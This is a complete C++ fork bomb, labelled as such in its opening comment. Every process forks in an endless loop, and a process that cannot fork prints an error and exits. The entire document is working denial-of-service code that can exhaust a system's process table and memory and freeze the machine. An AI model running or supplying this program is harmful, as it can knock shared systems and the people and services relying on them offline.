// A fork bomb: every process forks for ever; one that may not fork says so and ends.
#include <cstdio>
#include <unistd.h>

int main() {
    for (;;)
        if (fork() < 0) {
            std::perror("fork");
            _exit(1);
        }
}
